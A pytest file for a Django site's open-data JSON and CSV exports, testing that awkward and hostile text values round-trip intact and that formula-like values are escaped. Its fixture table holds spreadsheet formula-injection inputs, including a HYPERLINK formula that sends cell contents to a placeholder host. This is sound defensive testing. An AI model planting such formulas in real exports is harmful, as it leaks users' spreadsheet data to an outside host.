"""Records the site's authors never typed: empty optional fields, NULL dates, long texts, every apostrophe,
values that start like a formula. Each export validates against its published schema and reads back intact."""

import csv
import datetime
import io
import json

import jsonschema
import pytest
from django.utils import timezone

from discussion.models import Comment, CommentStatus
from discussion.text import text_key
from pages.models import ActStatus, ActType
from registry.models import OrganizationKind
from reports.opendata import columns, load_schema
from tests import factories as f

from .conftest import make_organization

pytestmark = pytest.mark.django_db

APOSTROPHES = "Об'єднання ʼНіжинʼ, м’ята, пам‘ять, `Сіверщина` і «Гоголь»"
ADDRESS = 'вул. Гоголя, 1\r\nкаб. «2», "3"'
LONG = ('Рядок з «лапками», "подвійними" і комою; ' * 500) + "\r\nкінець"
#: A text value and how every export writes it (docs/open-data.md, «Formula-safe»).
FORMULA_LIKE = {
    '=HYPERLINK("http://x.example/?d="&A1,"Натисніть")': '\'=HYPERLINK("http://x.example/?d="&A1,"Натисніть")',
    "-5": "'-5",
    "+380 4631 2 22 22": "'+380 4631 2 22 22",
    "@SUM(1+1)": "'@SUM(1+1)",
    "\tз табуляцією": "'\tз табуляцією",
    "\rз поверненням": "'\rз поверненням",
    "5-й": "5-й",
    APOSTROPHES: APOSTROPHES,
}
DATASETS = ["acts", "commission-documents", "organizations", "discussion-comments", "discussion-summaries"]


@pytest.fixture
def hostile(sections):
    for n, value in enumerate(FORMULA_LIKE):
        f.ActPageFactory(
            parent=sections["acts"],
            title=f"{value} {n}" if not value[0].isalnum() else value,
            number=value,
            session=value,
            summary=LONG,
            issuer=None,
            convocation=None,
            adopted_on=None,
            effective_from=None,
        )
        make_organization(OrganizationKind.NGO, f"{3000000 + n}", head=value, address=ADDRESS, website="")
    draft = f.ActPageFactory(
        parent=sections["acts"],
        title=APOSTROPHES,
        act_type=ActType.DRAFT_DECISION,
        status=ActStatus.DRAFT,
        number="",
        adopted_on=None,
        discussion_until=datetime.date(2020, 2, 29),
    )
    for value in FORMULA_LIKE:
        Comment.objects.create(
            draft=draft,
            author_name=value,
            email="x@example.com",
            text=value + LONG,
            text_key=text_key(value + LONG),
            reply="",
            consent_given_at=timezone.now(),
            status=CommentStatus.APPROVED,
        )
    f.CommissionDocumentPageFactory(parent=sections["commission"], number="-1", meeting_date=None)
    return sections


def document(client, name) -> dict:
    response = client.get(f"/opendata/{name}.json")
    assert response.status_code == 200 and response.streaming
    return json.loads(b"".join(response.streaming_content))


def csv_rows(client, name) -> list[dict]:
    response = client.get(f"/opendata/{name}.csv")
    body = b"".join(response.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # documented: UTF-8 with a byte-order mark, for Excel
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("name", DATASETS)
def test_every_export_validates_against_its_schema_and_csv_matches_json(client, hostile, name):
    served = document(client, name)
    jsonschema.Draft202012Validator(load_schema(name), format_checker=jsonschema.FormatChecker()).validate(
        served
    )
    assert served["items"]
    rows = csv_rows(client, name)
    assert len(rows) == len(served["items"])
    for item, row in zip(served["items"], rows, strict=True):
        assert list(row) == columns(name)
        for column, value in item.items():
            expected = "" if value is None else "; ".join(value) if isinstance(value, list) else str(value)
            assert row[column] == expected, (name, column)


def test_text_reaches_consumers_as_documented(client, hostile):
    acts = {item["number"]: item for item in document(client, "acts")["items"]}
    for written in FORMULA_LIKE.values():
        assert acts[written]["session"] == written and acts[written]["summary"] == LONG
        assert acts[written]["adopted_on"] is None and acts[written]["issuer"] is None
    heads = {item["head"] for item in document(client, "organizations")["items"]}
    assert heads == set(FORMULA_LIKE.values())
    comments = document(client, "discussion-comments")["items"]
    assert {item["author_name"] for item in comments} == set(FORMULA_LIKE.values())
    assert all(item["draft_title"] == APOSTROPHES for item in comments)
